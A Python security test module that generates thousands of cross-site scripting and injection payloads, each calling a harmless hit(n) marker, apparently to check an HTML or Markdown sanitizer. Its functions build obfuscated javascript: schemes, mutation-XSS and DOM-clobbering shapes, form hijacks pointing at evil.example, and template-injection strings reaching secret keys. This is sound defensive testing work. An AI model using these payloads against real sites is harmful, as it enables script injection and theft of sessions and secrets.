"""Words that would act if a page let them: made here, from parts, so that every combination is tried rather than those somebody thought of.

Each calls ``hit(<its number>)``, which the test defines in every window, so that what acts says which one it was.
Handlers are crossed with elements and with the ways of writing an attribute, schemes with the ways of hiding them and with the places
that take an address; the shapes that change when they are parsed twice are built by putting one thing that closes early into another.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle

from tests.security.payload_parts import ACTING, AROUND, BETWEEN, CLOSERS, INNER, OTHERWISE, SCHEMES, WAITING


def payloads() -> list[str]:
    """All of them, each once, in the same order every time."""
    made: dict[str, None] = {}
    for shape in _shapes():
        made.setdefault(shape, None)
    return [shape.replace("hit()", f"hit({number})") for number, shape in enumerate(made)]


def in_groups(size: int) -> list[list[str]]:
    """All of them, so many at a time."""
    listed = payloads()
    return [listed[start : start + size] for start in range(0, len(listed), size)]


def _shapes() -> Iterator[str]:
    for make in (
        _acting,
        _waiting,
        _scripts,
        _addresses,
        _breaking_out,
        _parsed_twice,
        _vectors,
        _nested_forms,
        _markdown,
        _templates,
        _written_otherwise,
        _page_parts,
    ):
        yield from make()


def _acting() -> Iterator[str]:
    """Every element that acts by itself, with its attribute written in turn in each way."""
    between, around = cycle(BETWEEN), cycle(AROUND)
    for element, handler in ACTING.items():
        for written in (handler, handler.upper(), handler[:4] + handler[4:].title()):
            deed = next(around).format("hit()")
            yield f"<{element}{next(between)}{written}={deed}>"
        yield f"<{element}{next(between)}{handler}\n=\nhit()"


def _waiting() -> Iterator[str]:
    between, around = cycle(BETWEEN), cycle(AROUND)
    for n, handler in enumerate(WAITING):
        element = ("p", "b", "x-y", "div", "a href=#", "td", "form", "input")[n % 8]
        yield f"<{element}{next(between)}{handler}={next(around).format('hit()')}>words</{element.split()[0]}>"


def _scripts() -> Iterator[str]:
    for opening in (
        "script",
        "ScRiPt",
        "script ",
        "script\n",
        "script/x",
        "script type=module",
        "script type=text/javascript",
        "svg><script",
        "math><script",
    ):
        yield f"<{opening}>hit()</{opening.split('>')[-1].split()[0].split('/')[0]}>"
    yield from (
        "<script>hit()",
        "<<script>script>hit()</script>",
        "<scr<script>ipt>hit()</scr</script>ipt>",
        "<script src=data:,hit()></script>",
        "<script src=//evil.example/x.js></script>",
        "<script>/*</script>*/hit()</script>",
        "<\x00script>hit()</script>",
        "<script\x20>hit()</script\x20>",
    )


def _hidden(scheme: str) -> Iterator[str]:
    """A scheme as it may be hidden from a reader who looks for its name."""
    rest = {"data": "text/html,<script>hit()</script>", "file": "///etc/passwd", "intent": "//x#Intent;end"}.get(scheme, "hit()")
    yield f"{scheme}:{rest}"
    if scheme not in {"javascript", "data", "vbscript"}:
        return
    middle = len(scheme) // 2
    yield f"{scheme.title()}:{rest}"
    yield "".join(letter.upper() if n % 2 else letter for n, letter in enumerate(scheme)) + f":{rest}"
    for gap in ("\t", "\n", "\r\n", "&Tab;", "&NewLine;", "&#10;", "&#x0A;", "\x00", "\u00ad", "\u200b"):
        yield f"{scheme[:middle]}{gap}{scheme[middle:]}:{rest}"
    for before in (" ", "\x01", "\x1f", "&#1;", "\ufeff", "\u2028", "%20", "//"):
        yield f"{before}{scheme}:{rest}"
    yield f"&#{ord(scheme[0])};{scheme[1:]}:{rest}"
    yield f"&#x{ord(scheme[0]):x};{scheme[1:]}:{rest}"
    yield f"&#{ord(scheme[0]):07d}{scheme[1:]}:{rest}"
    yield f"{scheme}&colon;{rest}"
    yield f"{scheme}&#58;{rest}"
    yield f"%{ord(scheme[0]):x}{scheme[1:]}:{rest}"
    yield f"\\{scheme}:{rest}"


def _addresses() -> Iterator[str]:
    """Every hidden scheme in each place that takes an address, the places in turn."""
    places = cycle(
        (
            "[words]({})",
            "[words](<{}>)",
            "<{}>",
            "![words]({})",
            '<a href="{}">words</a>',
            "<a href={}>words</a>",
            "<form action='{}'><button>words</button></form>",
            '<button formaction="{}">words</button>',
            '<iframe src="{}"></iframe>',
            '<object data="{}"></object>',
            '<svg><a xlink:href="{}"><text>words</text></a></svg>',
            '<math href="{}">words</math>',
            '<meta http-equiv=refresh content="0;url={}">',
            '<base href="{}">',
            '<area href="{}">',
            '<video poster="{}">',
        )
    )
    for scheme in SCHEMES:
        for address in _hidden(scheme):
            yield next(places).format(address)
            yield next(places).format(address)


def _breaking_out() -> Iterator[str]:
    carriers = cycle(
        (
            "<img src=x onerror=hit()>",
            "<svg onload=hit()>",
            " onfocus=hit() autofocus x=",
            "<script>hit()</script>",
            " style=animation-name:x onanimationstart=hit() ",
        )
    )
    for closer in CLOSERS:
        yield closer + next(carriers)
        yield f"words{closer}{next(carriers)}"


def _parsed_twice() -> Iterator[str]:
    """Something that ends early within something that is read otherwise, and carries what acts."""
    inner = cycle(INNER)
    for outer in OTHERWISE:
        first, name = outer.split(">")[0].split()[0], outer.split(">")[-1].split()[0]
        yield f"<{outer}><p title='</{name}><img src=x onerror=hit()>'>"
        within = next(inner)
        yield f"<{outer}><{within}><!--</{within.split('>')[-1]}><img title='--&gt;&lt;img src=x onerror=hit()&gt;'></{first}>"
        yield f"<{outer}></{first}><{next(inner)}></{name}><img src=x onerror=hit()>"


def _vectors() -> Iterator[str]:
    yield from (
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=hit()></svg>#x'>",
        "<svg><style><img src=x onerror=hit()></style></svg>",
        "<svg><![CDATA[><img src=x onerror=hit()>]]></svg>",
        "<svg><a><animate attributeName=href values=javascript:hit() /><text>words</text></a></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.hit()</script>'></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><math><img src=x onerror=hit()></style></mglyph></table></mtext></math>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=hit()></annotation-xml></math>",
        "<math><maction actiontype='statusline#http://x' xlink:href='javascript:hit()'>words</maction></math>",
        "<svg></p><style><a id='</style><img src=x onerror=hit()>'>",
        "<math></br><style><!--</style><img src=x onerror=hit()>--></math>",
        "<iframe srcdoc='&lt;img src=x onerror=parent.hit()&gt;'></iframe>",
        "<svg><discard onbegin=hit()>",
        "<svg><animateTransform onend=hit() dur=1s attributeName=x>",
    )


def _nested_forms() -> Iterator[str]:
    yield from (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
        "<form id=a></form><button form=a formaction=javascript:hit()>words</button>",
        "<form><div></form><form id=attributes onsubmit=hit()><input name=nodeName><input name=parentNode>",
        "<form action=javascript:hit()><input type=submit id=submit></form>",
        "</form><form method=get action=https://evil.example/><input name=csrf_token><button>words</button>",
        "<input form=story-form name=then value=approve autofocus onfocus=hit()>",
        "<a id=actor><a id=actor name=person href=https://evil.example>",
        "<img name=body><img name=head><img id=location>",
        "<form name=document><input name=cookie>",
        "<form><button formaction=https://evil.example formmethod=post>words</button></form>",
        "<label for=csrf_token onclick=hit()>words</label>",
    )


def _markdown() -> Iterator[str]:
    """What acts, inside everything a Markdown text can hold."""
    for frame in (
        "# {}",
        "> {}",
        "- {}",
        "1. {}",
        "**{}**",
        "_{}_",
        "`{}`",
        "    {}",
        "```html\n{}\n```",
        "~~~{}\n~~~",
        "| {} |\n|---|\n| {} |",
        "[{}](https://kommune.example)",
        "[words](https://kommune.example '{}')",
        "![{}](https://kommune.example/x.png)",
        "[words][1]\n\n[1]: https://kommune.example '{}'",
        "<!-- {} -->",
        "\\{}",
        "***\n{}\n***",
    ):
        yield frame.replace("{}", "<img src=x onerror=hit()>")
    for address in (
        'https://kommune.example/"onmouseover="hit()',
        "https://kommune.example/'onmouseover='hit()",
        "https://kommune.example/ onmouseover=hit()",
        "//evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "https:evil.example",
        "http://[::1]/x",
        "mailto:x@kommune.example?subject=<script>hit()</script>",
    ):
        yield f"[words]({address})"
        yield f"<{address}>"
    # Words that look like an address and lead elsewhere are quoted to the editor as advice.
    for closer in ("", '"', "'", "/", "?x=", "#"):
        yield f"[https://kommune.example/{closer}<img/src=x/onerror=hit()>](https://evil.example)"
        yield f"[kommune.example/{closer}`<svg/onload=hit()>`](https://evil.example)"


def _templates() -> Iterator[str]:
    """Words that mean something to a template, to a formatting function, or to a script that reads attributes."""
    for words in ("7*191", "hit()", "constructor.constructor('hit()')()", "config", "self.__init__.__globals__", "''.__class__.__mro__"):
        yield from (
            f"{{{{{words}}}}}",
            f"{{%print {words}%}}",
            f"${{{words}}}",
            f"#{{{words}}}",
            f"<%= {words} %>",
            f"[[${{{words}}}]]",
            f"*{{{words}}}",
            f"@({words})",
        )
    yield from (
        "%(secret_key)s",
        "%s%s%s%n",
        "{0.__class__}",
        "{settings.secret_key}",
        "%(name)s %",
        "%%(name)s",
        "$(hit())",
        "`hit()`",
        "{% raw %}{{x}}{% endraw %}",
    )
    yield from (
        "<div hx-on:load='hit()'>",
        "<div hx-on::load='hit()' hx-get=/ hx-trigger=load>",
        "<div data-hx-on-click='hit()'>",
        "<a hx-get='javascript:hit()' hx-trigger=load>words</a>",
        "<div hx-get=/ hx-trigger='load[hit()]'>",
        "<div hx-vals='js:{x:hit()}' hx-get=/ hx-trigger=load>",
        "<div data-copy-text='hit()' data-counter-for=x data-fills=title_da>",
    )


def _written_otherwise() -> Iterator[str]:
    """The same written so that a later step might read it again: entities, percent, other alphabets, the ends of words."""
    deed = "<img src=x onerror=hit()>"
    yield deed.replace("<", "&lt;").replace(">", "&gt;")
    yield deed.replace("<", "&#60;").replace(">", "&#62;")
    yield deed.replace("<", "&amp;lt;").replace(">", "&amp;gt;")
    yield deed.replace("<", "&LT").replace(">", "&GT")
    yield deed.replace("<", "%3C").replace(">", "%3E")
    yield deed.replace("<", "%253C").replace(">", "%253E")
    yield deed.replace("<", "\\u003c").replace(">", "\\u003e")
    yield deed.replace("<", "\\x3c").replace(">", "\\x3e")
    yield deed.replace("<", "\uff1c").replace(">", "\uff1e")
    yield deed.replace("<", "\u2039").replace(">", "\u203a")
    yield deed.replace("<", "+ADw-").replace(">", "+AD4-")
    for hidden in ("\u202e", "\u200d", "\u2066", "\ufeff", "\U000e0041", "\u0338"):
        yield f"<{hidden}img src=x onerror=hit()>"
        yield f"<img src=x one{hidden}rror=hit()>{hidden}"


def _page_parts() -> Iterator[str]:
    """What changes the page around it rather than acting itself."""
    yield from (
        "<base href=https://evil.example/>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<link rel=prefetch href=https://evil.example/>",
        "<style>*{display:none}</style>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<div style='background:url(https://evil.example/x)'>",
        "<img src=https://evil.example/pixel.gif>",
        "<meta http-equiv=content-security-policy content=\"script-src 'unsafe-inline'\">",
        "<meta name=referrer content=unsafe-url>",
        "<plaintext>",
        "<!--",
        "<![CDATA[",
        "<?xml version='1.0'?>",
        "<!doctype html><html onload=hit()>",
        "<p id=main class=btn name=csrf_token>",
        "<div popover id=x onbeforetoggle=hit()><button popovertarget=x>words</button>",
        "<a href=https://evil.example target=_blank rel=opener ping=https://evil.example/>words</a>",
        "<portal src=https://evil.example></portal>",
        "<slot onslotchange=hit()>",
        "<template shadowrootmode=open><img src=x onerror=hit()></template>",
    )
